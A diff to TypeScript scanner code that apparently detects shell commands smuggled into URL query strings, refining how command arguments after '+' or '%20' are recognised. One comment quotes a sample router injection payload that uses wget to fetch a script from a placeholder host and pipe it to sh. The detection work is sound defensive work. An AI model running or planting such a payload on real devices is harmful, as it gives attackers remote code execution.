@@ -33,16 +33,17 @@ for (const ch of "_-.[]") NAME[ch.charCodeAt(0)] = 1;
 /**
  * At an "&" at buf[i] (or HTML's "&amp;" for it: a link's query in escaped markup): 1 when
  * the next pair's "name=" follows, 0 when not, MORE_INPUT when that is not known before n
+ * (`final`: the input ends at n — "&c=" there is a pair, "&c" none)
  */
-export function nextPairAt(buf: Uint8Array, i: number, n: number): number {
-  if (i + 5 > n) return MORE_INPUT;
+export function nextPairAt(buf: Uint8Array, i: number, n: number, final: boolean): number {
+  if (i + 5 > n && !final) return MORE_INPUT;
   let k =
     buf[i + 1] === 0x61 && buf[i + 2] === 0x6d && buf[i + 3] === 0x70 && buf[i + 4] === 0x3b
       ? i + 5
       : i + 1;
   const from = k;
   while (k < n && k - from < MAX_NAME && NAME[buf[k]!] === 1) k++;
-  if (k >= n) return MORE_INPUT;
+  if (k >= n) return final ? 0 : MORE_INPUT;
   return k > from && buf[k] === 0x3d ? 1 : 0;
 }
 
@@ -54,20 +55,31 @@ export function nextPairAt(buf: Uint8Array, i: number, n: number): number {
  * (scheme-start.ts gluedHttp leaves that scheme whole).
  */
 export function commandArgumentAt(buf: Uint8Array, s: number, lo: number): boolean {
-  if (s - 2 >= lo && buf[s - 1] === 0x2b) return (CLASS[buf[s - 2]!]! & C_ALPHA) !== 0;
-  return (
-    s - 4 >= lo &&
-    buf[s - 3] === 0x25 &&
-    buf[s - 2] === 0x32 &&
-    buf[s - 1] === 0x30 &&
-    (CLASS[buf[s - 4]!]! & C_ALPHA) !== 0
-  );
+  let w: number; // the glued word's last byte
+  if (s - 2 >= lo && buf[s - 1] === 0x2b) w = s - 2;
+  else if (s - 4 >= lo && buf[s - 3] === 0x25 && buf[s - 2] === 0x32 && buf[s - 1] === 0x30)
+    w = s - 4;
+  else return false;
+  if (!(CLASS[buf[w]!]! & C_ALPHA)) return false;
+  // … in a query: a "?" or "=" earlier in the same run of non-blank bytes ("Google+https://…"
+  // in prose is no command) — looked for past lo too, in an earlier URI's text
+  // (`request_uri=http://h/luci/;stok=/locale?country=$(id>\`wget+http://192.0.2.9/t+-O-|sh\`)`):
+  // the scanner keeps more than MAX_QUERY_BEFORE bytes before a trigger
+  for (let k = w - 1; k >= 0 && w - k <= MAX_QUERY_BEFORE; k--) {
+    const b = buf[k]!;
+    if (b === 0x3f || b === 0x3d) return true;
+    if (b <= 0x20) return false;
+  }
+  return false;
 }
+
+/** how far back the query's "?" or "=" before a command's argument is looked for */
+const MAX_QUERY_BEFORE = 512;
 
 /**
  * Where a command's argument that starts at buf[from] ends: at its first encoded space ("+",
- * "%20"), the shell's command separator (";", "&", "|", "`") or a byte no URI holds; end when
- * none comes before it, MORE_INPUT when the input may go on past n
+ * "%20"), the shell's command separator (";", "&", "|", "`") or a byte no URI holds; -1 when
+ * none comes before `end`, MORE_INPUT when the input may go on past n
  */
 export function commandArgumentEnd(
   buf: Uint8Array,
@@ -85,7 +97,8 @@ export function commandArgumentEnd(
     }
     if (ENDS[b] === 1 || (b < 0x80 && !(CLASS[b]! & C_URI))) return k;
   }
-  return end === n && !final ? MORE_INPUT : end;
+  // (none before maxLength: the URI's usual reading, which gives no record)
+  return end === n && !final ? MORE_INPUT : -1;
 }
 
 const ENDS = new Uint8Array(256);
